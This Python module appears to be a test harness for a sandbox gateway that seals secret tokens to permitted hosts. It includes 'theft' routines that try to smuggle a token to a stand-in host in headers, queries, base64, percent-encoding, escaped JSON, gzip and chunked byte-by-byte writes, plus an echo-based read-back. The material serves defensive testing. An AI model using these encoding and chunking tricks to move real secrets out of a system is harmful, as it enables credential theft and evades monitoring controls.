"""Sealed secrets: the placeholder where no value belongs, and the value on its way back."""

from __future__ import annotations

import base64
import gzip
import re
import socket
from collections.abc import Callable
from typing import Any

from ..loot import Attempt, Nothing, World
from ..wires import ARRIVED
from .addresses import rule
from .smuggling import HOST, PORT, careless, head, heard_by, send

OTHER = "db.test"


def _policy(host: str) -> dict[str, Any]:
    sealed = {"from": ["file:database"], "seal": {"hosts": [host], "ports": [PORT]}}
    return {"egress": [rule(name, PORT, protocol="https") for name in (HOST, OTHER)], "secrets": {"token": sealed}}


def for_another(world: World) -> dict[str, Any]:
    """The value is for a host that nobody asks."""
    return _policy(OTHER)


def for_this(world: World) -> dict[str, Any]:
    """The value is for the host that is asked."""
    return _policy(HOST)


def token(world: World) -> bytes:
    """What stands for the secret; outside, the secret."""
    held: str = world.get("token") or world["canary"]
    return held.encode()


def post(body: bytes, *lines: bytes) -> bytes:
    """A request with a body."""
    return head(*lines, b"Content-Length: %d" % len(body)) + body


ELSEWHERE = Attempt("47", "a placeholder to a host that the value is not for", "gateway", "", for_another)
FORMS: dict[str, Callable[[bytes], tuple[bytes, bytes]]] = {
    "in its header": lambda key: (head(b"Authorization: Bearer " + key, first=b"GET /v1/a HTTP/1.1"), key),
    "in a query": lambda key: (head(first=b"GET /v1/a?k=" + key + b" HTTP/1.1"), key),
    "in a body": lambda key: (post(b"key=" + key), key),
    "in base64": lambda key: (post(base64.b64encode(b"x" + key)), base64.b64encode(b"x" + key)),
    "percent-encoded": lambda key: (post(percent(key)), percent(key)),
    "in JSON, escaped": lambda key: (post(b'{"k":"%b"}' % escaped(key)), escaped(key)),
    "compressed": lambda key: (post(squeezed(key), b"Content-Encoding: gzip"), squeezed(key)),
}


def percent(key: bytes) -> bytes:
    return b"".join(b"%%%02X" % byte for byte in key)


def escaped(key: bytes) -> bytes:
    return b"".join(b"\\u%04x" % byte for byte in key)


def squeezed(key: bytes) -> bytes:
    return gzip.compress(key, mtime=0)


def _send(form: Callable[[bytes], tuple[bytes, bytes]]) -> Callable[[World], str]:
    def steal(world: World) -> str:
        raw, piece = form(token(world))
        if piece not in send(raw):
            raise Nothing("it did not arrive")
        return f"{ARRIVED}{HOST}"

    return steal


for _name, _form in FORMS.items():
    ELSEWHERE.theft(_name, ends="EGRESS_DENIED")(_send(_form))


@ELSEWHERE.theft("split over writes", ends="EGRESS_DENIED")
def split(world: World) -> str:
    """Byte by byte, each a chunk of its own."""
    key = token(world)
    with careless().wrap_socket(socket.create_connection((HOST, PORT), 8), server_hostname=HOST) as way:
        way.sendall(head(b"Transfer-Encoding: chunked"))
        for byte in key:
            way.sendall(b"1\r\n%c\r\n" % byte)
        way.sendall(b"0\r\n\r\n")
        heard = heard_by(way)
    if bytes(piece[0] for piece in re.findall(rb"\r\n1\r\n(.)", heard, re.DOTALL)) != key and key not in heard:
        raise Nothing(f"the host heard {heard!r}")
    return f"{ARRIVED}{HOST}"


ECHOED = Attempt("48", "an upstream that says the secret back", "gateway", "", for_this)


@ECHOED.theft("in what the host says that it heard")
def echoed(world: World) -> str:
    """Reads the value where the host repeats the request."""
    key = token(world)
    heard = send(head(b"Authorization: Bearer " + key, first=b"GET /v1/a HTTP/1.1"))
    found = re.search(rb"authorization: bearer (\S+)", heard, re.IGNORECASE)
    if found is None or (world.get("caged") and found[1] == key):
        raise Nothing(f"the host heard {heard!r}")
    return found[1].decode()
